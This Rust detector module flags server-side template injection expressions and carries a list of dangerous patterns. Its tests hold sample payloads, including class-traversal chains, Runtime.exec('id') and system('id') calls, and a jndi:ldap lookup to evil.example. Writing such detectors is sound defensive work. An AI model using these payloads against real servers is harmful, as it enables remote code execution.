//! Expressions that a template engine would run on the server.
//!
//! **Finds** (`code.template`, rank 40): expressions of Jinja, Twig, Freemarker, Velocity, Spring, ERB, Log4j and their like that reach for
//! classes, processes, configuration or directories, and the sums that attackers try first (`{{7*7}}`).
//!
//! **Does not find** expressions that merely show a variable, and attacks on engines without these brackets.
//!
//! **Example**: `{{ ''.__class__.__mro__[1].__subclasses__() }}`

use crate::detectors::Hit;
use crate::text::Text;
use crate::{DetectorCard, Reach};

/// As much of an expression is read.
const EXPRESSION_BYTES_MAX: usize = 256;
const KIND: &str = "code.template";

pub(crate) const CARD: DetectorCard = DetectorCard {
    name: "template_injection",
    kinds: &[KIND],
    reach: Reach::Held(EXPRESSION_BYTES_MAX + 2),
    summary: "Expressions that a template engine would run on the server.",
};

/// How expressions open, and the byte that ends them.
const BRACKETS: [(&[u8], u8); 7] = [
    (b"{{", b'}'),
    (b"{%", b'%'),
    (b"${", b'}'),
    (b"#{", b'}'),
    (b"<%", b'>'),
    (b"<#", b'>'),
    (b"#set", b'\n'),
];

/// What no template of a page needs.
const REACHES: [&str; 20] = [
    "__class__",
    "__mro__",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "__import__",
    "popen(",
    "freemarker.template.utility",
    "java.lang.runtime",
    "java.lang.processbuilder",
    "getruntime",
    "t(java.",
    "jndi:ldap",
    "jndi:rmi",
    "jndi:dns",
    "system(",
    "7*7",
    "config.items",
    "child_process",
    "os.environ",
];

pub(crate) fn find(text: &Text<'_>) -> Option<Hit> {
    let (open, close) = BRACKETS.iter().find(|(open, _)| text.starts_with(open))?;
    let len =
        text.run_within(open.len(), EXPRESSION_BYTES_MAX, |byte| byte != *close && byte != b'\n');
    let inside = text.slice(open.len(), open.len() + len);
    let lower: String = String::from_utf8_lossy(inside).to_ascii_lowercase();
    let bare: String = lower.chars().filter(|letter| *letter != ' ').collect();
    let reaches = REACHES.iter().any(|part| bare.contains(part));
    reaches.then(|| Hit::new(&CARD, KIND, open.len() + len, 40))
}

#[cfg(test)]
mod tests {
    use crate::detectors::constructs::tests::check;

    #[test]
    fn expressions_that_reach_out_are_found() {
        for expression in [
            "{{ ''.__class__.__mro__[1].__subclasses__() ",
            "{{7 * 7",
            "${T(java.lang.Runtime).getRuntime().exec('id')",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()",
            "<%= system('id') %",
            "${jndi:ldap://evil.example/a",
        ] {
            check(&format!("try {expression}"), &[(expression, "code.template", 40)]);
        }
    }

    #[test]
    fn ordinary_templates_are_not() {
        check(
            "Hello {{ user.name }}, ${HOME}/bin, #{count} of {% for x in y %} <%= title %> <# if",
            &[],
        );
    }

    #[test]
    fn an_expression_is_read_up_to_its_limit() {
        let long = "a".repeat(super::EXPRESSION_BYTES_MAX);
        check(&format!("{{{{{long}7*7}}}}"), &[]);
    }
}
